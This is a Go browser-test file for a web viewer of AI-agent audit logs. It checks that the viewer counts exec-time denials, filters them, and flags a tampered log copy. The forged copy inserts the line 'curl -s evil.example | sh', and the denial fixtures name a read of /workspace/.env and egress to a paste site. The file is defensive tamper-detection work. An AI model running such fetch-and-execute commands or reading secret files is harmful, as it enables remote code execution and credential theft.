package web

import (
	"context"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agentbox/agentbox/audit"
	"github.com/agentbox/agentbox/audit/proof"
	"github.com/chromedp/chromedp"
)

const execSession = "e0e0e0e0-exec-only-denied"

// startDefectsViewer serves a log with a session whose only denial was at
// exec time, and a tampered copy of it; both are checked against a signed
// checkpoint of the original.
func startDefectsViewer(t *testing.T) string {
	dir := t.TempDir()
	good := writeDemoLog(t, dir, "audit.jsonl", nil)
	w, err := audit.Open(good, audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*audit.Record{
		{Time: at(900), Session: execSession, Event: audit.EventSessionStart, Task: "build it", User: "carol", Host: "build-07"},
		{Time: at(901), Session: execSession, Event: audit.EventToolCall, CallID: "c1", Tool: "execute_bash", Phase: audit.PhaseDecision, Args: map[string]any{"command": "make"}, Decision: "allow", Rule: "commands.allow[0]"},
		{Time: at(902), Session: execSession, Event: audit.EventExecDenied, CallID: "c1", Tool: "execute_bash", Decision: "deny", Rule: "commands.deny[3]", Argv: []string{"mount", "-t", "tmpfs", "x", "/mnt"}, PID: 41},
		{Time: at(902.5), Session: execSession, Event: audit.EventAlarm, CallID: "c1", Tool: "execute_bash", What: "unexpected_exec", Action: "reported",
			Path: "/usr/bin/python3", Argv: []string{"python3", "-c", "import os"}, Parents: []string{"sh (12)", "make (11)"}, Rule: "not predicted by the up-front analysis"},
		{Time: at(903), Session: execSession, Event: audit.EventToolCall, CallID: "c1", Tool: "execute_bash", Phase: audit.PhaseResult, Decision: "allow", ExitCode: audit.Ptr(2)},
		{Time: at(904), Session: execSession, Event: audit.EventSessionEnd, Status: "ok", Steps: 1},
	} {
		if err := w.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	skey, vkey, err := proof.KeyGen("audit.example")
	if err != nil {
		t.Fatal(err)
	}
	f, _ := os.Open(good)
	tr, err := proof.ReadTree(f)
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	note, err := proof.Sign(tr, tr.Size(), "", skey)
	if err != nil {
		t.Fatal(err)
	}
	// The copy: line 4 (an allowed call) turned into curl | sh, and a
	// record deleted further down.
	b, _ := os.ReadFile(good)
	lines := strings.SplitAfter(string(b), "\n")
	lines[3] = strings.Replace(lines[3], "go test ./parser/...", "curl -s evil.example | sh", 1)
	lines = append(lines[:16:16], lines[17:]...)
	bad := filepath.Join(dir, "audit-copy.jsonl")
	os.WriteFile(bad, []byte(strings.Join(lines, "")), 0o600)
	s, err := New([]string{good, bad}, Options{Poll: 20 * time.Millisecond, Checkpoint: note, VerifyKey: vkey})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s)
	t.Cleanup(ts.Close)
	return ts.URL + "/"
}

func navigate(t *testing.T, ctx context.Context, url string) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Navigate(url), chromedp.WaitVisible(chromedp.CSS(`body[data-ready="1"]`))); err != nil {
		t.Fatal(err)
	}
}

// Issue 27/24: exec-time denials are counted in the sessions list.
func TestBrowserExecDenialsCounted(t *testing.T) {
	url := startDefectsViewer(t)
	ctx := browser(t)
	navigate(t, ctx, url)
	count(t, ctx, "#sessions tbody tr.row", 3)
	if got := text(t, ctx, `tr[data-session="`+execSession+`"] td:nth-child(9)`); strings.TrimSpace(got) != "1" {
		t.Fatalf("denials of a session whose program was killed at exec time: %q, want 1", got)
	}
}

// Issue 27: a record of a damaged range (the forged curl | sh shown as
// ALLOW) is marked on the timeline.
func TestBrowserDamagedRowsMarked(t *testing.T) {
	url := startDefectsViewer(t)
	ctx := browser(t)
	navigate(t, ctx, url+"#/f1/s/7f3c9a1e-0b4d-4e21-9a55-2c8e1f0d3b71")
	count(t, ctx, `#timeline .ev[data-line="4"].damaged`, 1)
	row := text(t, ctx, `#timeline .ev[data-line="4"]`)
	if !strings.Contains(row, "DAMAGED: edited") || !strings.Contains(row, "curl -s evil.example") {
		t.Fatalf("row 4: %q", row)
	}
	// Rows of the intact file are not marked.
	navigate(t, ctx, url+"#/f0/s/7f3c9a1e-0b4d-4e21-9a55-2c8e1f0d3b71")
	count(t, ctx, "#timeline .ev", 19)
	count(t, ctx, "#timeline .ev.damaged", 0)
}

// Issue 27: a denials view across sessions, with filters.
func TestBrowserDenialsView(t *testing.T) {
	url := startDefectsViewer(t)
	ctx := browser(t)
	navigate(t, ctx, url)
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#nav-denials"))); err != nil {
		t.Fatal(err)
	}
	// Two demo sessions (a read, an egress, an ask with no terminal
	// refused and a held git hook each) and the exec-time denial.
	count(t, ctx, "#denials tr.denial-row", 9)
	all := text(t, ctx, "#denials")
	for _, s := range []string{"mount -t tmpfs x /mnt", "paste.example.net:443", "/workspace/.env", "commands.deny[3]", "exec", "network"} {
		if !strings.Contains(all, s) {
			t.Errorf("denials view lacks %q", s)
		}
	}
	check := func(want int, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatal(err)
		}
		count(t, ctx, "#denials tr.denial-row", want)
	}
	check(1, setFilter("d-kind", "exec", "change"))
	check(2, setFilter("d-kind", "network", "change"))
	check(1, setFilter("d-session", "7f3c", "input"))
	check(4, setFilter("d-kind", "", "change"))
	check(1, setFilter("d-rule", "files.read.deny[0]", "change"))
	check(9, setFilter("d-rule", "", "change"), setFilter("d-session", "", "input"))
	check(2, setFilter("d-text", "paste.example", "input"))
}

// Issue 27: usable at 760 px: the denials column is on screen and the page
// does not scroll sideways.
func TestBrowserNarrowWindow(t *testing.T) {
	url := startDefectsViewer(t)
	ctx := browser(t)
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(760, 900)); err != nil {
		t.Fatal(err)
	}
	navigate(t, ctx, url)
	count(t, ctx, "#sessions tbody tr.row", 3)
	fits := func(sel string) {
		t.Helper()
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const e = document.querySelector(`+"`"+sel+"`"+`); const r = e.getBoundingClientRect();
			return r.width > 0 && r.right <= document.documentElement.clientWidth && document.documentElement.scrollWidth <= document.documentElement.clientWidth; })()`))
		if err != nil || !ok {
			t.Fatalf("%s is off-screen at 760 px (or the page scrolls sideways): %v", sel, err)
		}
	}
	fits("#sessions th:nth-child(9)")
	fits(`tr[data-session="` + execSession + `"] td:nth-child(9)`)
	navigate(t, ctx, url+"#/f0/s/"+execSession)
	count(t, ctx, "#timeline .ev", 6)
	fits(`#timeline .ev[data-event="exec_denied"] .body`)
	// The unexpected_exec alarm shows what ran and its parents.
	if a := text(t, ctx, `#timeline .ev[data-event="alarm"]`); !strings.Contains(a, "argv: python3 -c import os") || !strings.Contains(a, "parents: sh (12) ← make (11)") {
		t.Errorf("alarm row: %q", a)
	}
}

// Issue 27, 40: the signed checkpoint's status is shown for each log, in
// one statement of what was verified and what was not.
func TestBrowserCheckpointStatus(t *testing.T) {
	url := startDefectsViewer(t)
	ctx := browser(t)
	navigate(t, ctx, url+"?live=0#/f0/verify")
	count(t, ctx, ".verdict-card .statement", 2)
	good, bad := text(t, ctx, `.verdict-card[data-file="0"] .statement`), text(t, ctx, `.verdict-card[data-file="1"] .statement`)
	for _, s := range []string{"verified", "the hash chain of all 49 records is intact", "the first 49 records are exactly those of the checkpoint signed by audit.example",
		"not verified", "whether records written after the checkpoint was signed were cut from the end"} {
		if !strings.Contains(good, s) {
			t.Errorf("intact log lacks %q: %q", s, good)
		}
	}
	// Never "checkpoint ✓" beside "pass a checkpoint".
	if strings.Contains(good, "--checkpoint") || strings.Contains(good, "✗") {
		t.Errorf("intact log, checkpoint verified, says otherwise too: %q", good)
	}
	if !strings.Contains(bad, "checkpoint ✗") || !strings.Contains(bad, "NOT extended") || !strings.Contains(bad, "the log was altered") {
		t.Errorf("tampered log: %q", bad)
	}
	if strings.Contains(bad, "not verified") || strings.Contains(bad, "records are exactly those") {
		t.Errorf("tampered log: %q", bad)
	}
}
